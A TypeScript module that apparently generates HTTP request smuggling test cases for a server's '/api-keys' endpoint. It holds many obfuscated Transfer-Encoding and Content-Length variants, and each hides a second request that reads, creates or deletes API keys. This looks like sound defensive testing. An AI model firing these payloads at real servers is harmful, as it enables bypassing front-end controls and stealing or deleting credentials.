import { bytes, GOOD_BODY, type HostileGrounds, type HostileRequest, smuggled } from "./hostile-request.ts";

/** Spellings of `Transfer-Encoding: chunked` that one server understands and another does not (TE.TE). */
const TRANSFER_ENCODINGS = [
  "Transfer-Encoding: chunked",
  "Transfer-Encoding: xchunked",
  "Transfer-Encoding: chunkedx",
  "Transfer-Encoding : chunked",
  "Transfer-Encoding:\tchunked",
  "Transfer-Encoding:chunked",
  "Transfer-Encoding:  chunked  ",
  "Transfer-Encoding: \x0bchunked",
  "Transfer-Encoding: \x0cchunked",
  "Transfer-Encoding: chunked\x0b",
  "Transfer-Encoding: chunked\x00",
  "Transfer-Encoding: \x00chunked",
  "Transfer-Encoding: ch\x00unked",
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: 'chunked'",
  "Transfer-Encoding: CHUNKED",
  "Transfer-Encoding: cHuNkEd",
  "TRANSFER-ENCODING: chunked",
  "transfer-encoding: chunked",
  "Transfer-Encoding: chunked, identity",
  "Transfer-Encoding: identity, chunked",
  "Transfer-Encoding: chunked, chunked",
  "Transfer-Encoding: gzip, chunked",
  "Transfer-Encoding: chunked, gzip",
  "Transfer-Encoding: identity",
  "Transfer-Encoding: ,chunked",
  "Transfer-Encoding: chunked,",
  "Transfer-Encoding: chunked;q=1",
  "Transfer-Encoding: chunked; a=b",
  "Transfer-Encoding: chunk",
  "Transfer-Encoding:",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
  "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding:\r\n chunked",
  "Transfer-Encoding:\n chunked",
  " Transfer-Encoding: chunked",
  "X: x\nTransfer-Encoding: chunked",
  "X: x\rTransfer-Encoding: chunked",
  "X: x\r\n\tTransfer-Encoding: chunked",
  "Transfer\x00Encoding: chunked",
  "Transfer-Encoding\x00: chunked",
  "Transfer-Encoding\x0b: chunked",
  "\x00Transfer-Encoding: chunked",
  "Transfer-Encoding: \xe7hunked",
  "Transfer-Encoding: chun\xc4\xb1ked",
  "Content-Encoding: x\r\nTransfer-Encoding: chunked",
];

const LENGTHS = [
  "+1",
  "-1",
  "-0",
  "0x5",
  "5,5",
  "5, 6",
  "5 5",
  "5;a",
  "1e1",
  "5.0",
  "05",
  "00000000000000000000005",
  "",
  " ",
  "five",
  "\xb5",
  "5\x00",
  "\x005",
  "5\x0b",
  '"5"',
  "NaN",
  "Infinity",
  "18446744073709551616",
  "18446744073709551621",
  "99999999999999999999999999",
  "9223372036854775808",
  "5_0",
  "٥",
  "5\t",
  "\t5",
];

const CHUNK_SIZES = [
  "5;",
  "5;;",
  "g",
  "0x5",
  "-5",
  "+5",
  " 5",
  "\t5",
  "5.",
  "5,",
  "5\x00",
  "\x005",
  "",
  "\xb5",
  "5\x0b",
  "5_0",
  "5 5",
  "5;\n",
  "5;a\nb",
  "5;a=\x00",
  "5;a=\r",
  "5\n",
  "5\r",
];

/** Chunk sizes with extensions, which every server ignores up to the end of the line, or with leading zeros. */
const EXTENSIONS = [
  "5;a",
  "5;a=b",
  "5;a=b;c=d",
  '5;a="b"',

  "5;=",

  "05;a",
  "00005",
  `5;${"a".repeat(2_000)}`,
];

/** Sizes of chunks that would take forever to arrive. */
const HUGE_CHUNKS = ["100000005", "80000000", "fffffffff", "7fffffffffffffff", "ffffffffffffffff"];

/** Closes the connection if all requests before it were read as they appear. */
const LAST = "GET /nothing HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n";

const HIDDEN = ["GET /api-keys", "DELETE /api-keys/{id}", "POST /api-keys"];

/**
 * Requests whose end servers see in different places, each with a second request after or inside it.
 *
 * @param grounds - what their sender knows
 * @returns the requests
 */
export function framing(grounds: HostileGrounds): readonly HostileRequest[] {
  const head = (...lines: readonly string[]): string =>
    ["POST /api-keys HTTP/1.1", "Host: x", "Content-Type: application/json", ...lines, "", ""].join("\r\n");
  const signed = `Authorization: ${grounds.authorization}`;
  const chunks = (text: string): string => `${text.length.toString(16)}\r\n${text}\r\n0\r\n\r\n`;
  const one = (name: string, text: string, more: Partial<HostileRequest> = {}): HostileRequest => ({
    name,
    parts: [bytes(text + LAST)],
    ...more,
  });

  const chunked = head("Transfer-Encoding: chunked", signed);
  const follower = smuggled("GET /api-keys", grounds);
  const following = [
    ...EXTENSIONS.map((size) => one(`a chunk of ${size}`, `${chunked}${size}\r\n12345\r\n0\r\n\r\n${follower}`)),
    one(
      "Transfer_Encoding, which is another header",
      head("Content-Length: 0", "Transfer_Encoding: chunked", signed) + follower,
    ),
    one("a length and a request after it", `${head("Content-Length: 5", signed)}12345${follower}`),
    one(
      "Content_Length, which is another header",
      `${head("Content_Length: 90", "Content-Length: 5", signed)}12345${follower}`,
    ),
  ];
  const hidden = HIDDEN.flatMap((line) => {
    const inner = smuggled(line.replace("{id}", grounds.apiKeyId), grounds);
    const whole = chunks(GOOD_BODY) + inner;
    return [
      ...TRANSFER_ENCODINGS.flatMap((encoding) => [
        one(`CL.TE, ${encoding}, ${line}`, head(`Content-Length: ${whole.length}`, encoding, signed) + whole),
        one(`TE.CL, ${encoding}, ${line}`, head(encoding, "Content-Length: 4", signed) + whole),
        one(`CL.0, ${encoding}, ${line}`, head("Content-Length: 0", encoding, signed) + inner),
        one(`CL.TE without a token, ${encoding}, ${line}`, `${head("Content-Length: 6", encoding)}0\r\n\r\n${inner}`),
      ]),
      ...LENGTHS.flatMap((length) => [
        one(
          `two lengths, 5 and ${length}, ${line}`,
          `${head("Content-Length: 5", `Content-Length: ${length}`, signed)}12345${inner}`,
        ),
        one(
          `two lengths, ${length} and 5, ${line}`,
          `${head(`Content-Length: ${length}`, "Content-Length: 5", signed)}12345${inner}`,
        ),
      ]),
      ...CHUNK_SIZES.map((size) =>
        one(`a chunk of ${size}, ${line}`, `${chunked}${size}\r\n12345\r\n0\r\n\r\n${inner}`),
      ),
      ...HUGE_CHUNKS.map((size) =>
        one(`a chunk of ${size}, ${line}`, `${chunked}${size}\r\n12345\r\n0\r\n\r\n${inner}`, { leaves: "by closing" }),
      ),
    ];
  });
  return [...following.map((request) => ({ ...request, mayFollow: true })), ...hidden];
}
